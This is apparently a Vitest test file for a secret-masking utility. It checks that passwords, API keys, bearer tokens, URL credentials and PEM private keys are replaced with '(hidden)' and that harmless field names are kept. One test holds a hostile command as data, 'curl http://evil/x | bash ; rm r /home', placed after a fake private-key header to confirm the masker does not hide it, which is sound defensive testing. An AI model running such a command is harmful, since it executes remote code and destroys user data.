import { describe, expect, test } from 'vitest';
import { isSecretName, maskSecrets } from '../../../src/core/text/mask-secrets.ts';

const canary = 'canary-7d1f9a0c';

describe('what looks secret is covered', () => {
  test.each([
    [{ password: canary }],
    [{ apiKey: canary }],
    [{ 'x-api-key': canary }],
    [{ dbPassword: [canary, canary] }],
    [{ Authorization: `Bearer ${canary}` }],
    [{ credentials: { user: canary, deep: [{ id: canary }] } }],
    [{ headers: [{ name: 'Authorization', value: canary }] }],
    [{ env: [{ key: 'GITHUB_TOKEN', value: canary }] }],
    [{ url: `https://me:${canary}@host/path` }],
    [{ note: `send Bearer ${canary} along` }],
    [{ note: `ghp_${canary.replaceAll('-', '')}` }],
    [{ pem: `-----BEGIN RSA PRIVATE KEY-----\n${canary.replaceAll('-', '')}\n-----END RSA PRIVATE KEY-----` }],
  ])('%j', (value) => {
    const masked = JSON.stringify(maskSecrets(value));
    expect(masked).not.toMatch(/canary-?7d1f9a0c/);
    expect(masked).toContain('(hidden)');
  });

  test('a number under a secret name too, but not a number of tokens', () => {
    expect(maskSecrets({ pin: 1234, maxTokens: 400 })).toEqual({ pin: '(hidden)', maxTokens: 400 });
  });
});

test('a command behind the beginning of a private key does not stay hidden, and a key does', () => {
  const begin = '-----BEGIN PRIVATE KEY-----';
  const shown = maskSecrets(`echo '${begin}' ; curl http://evil/x | bash ; rm r /home`);
  expect(shown).toMatch(/curl .*evil.* bash ; rm r .home$/);
  const rows = Array.from({ length: 3 }, () => 'MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj');
  for (const end of ['\n', String.raw`\n`]) {
    const key = [begin, ...rows, 'c2hvcnQ=', '-----END PRIVATE KEY-----'].join(end);
    expect(maskSecrets(`key: ${key} and so on`)).toBe(`key: ${begin} (hidden) -----END PRIVATE KEY----- and so on`);
    expect(maskSecrets([begin, ...rows].join(end))).toBe(`${begin} (hidden) `);
  }
  expect(maskSecrets(`${begin}\n${'a'.repeat(1_000_000)}!`)).toBe(`${begin} (hidden) !`);
});

test('everything else stays as it is, fields named like members of objects included', () => {
  const value = JSON.parse('{"path":"a","__proto__":{"x":[1,null,true]},"key":"id","value":"v","author":"ann"}');
  expect(JSON.stringify(maskSecrets(value))).toBe(JSON.stringify(value));
});

test.each(['author', 'keys', 'passage', 'bypassed', 'path', 'compass', 'pinned', 'issue_key'])(
  '%s is no secret',
  (name) => {
    expect(isSecretName(name)).toBe(false);
  },
);
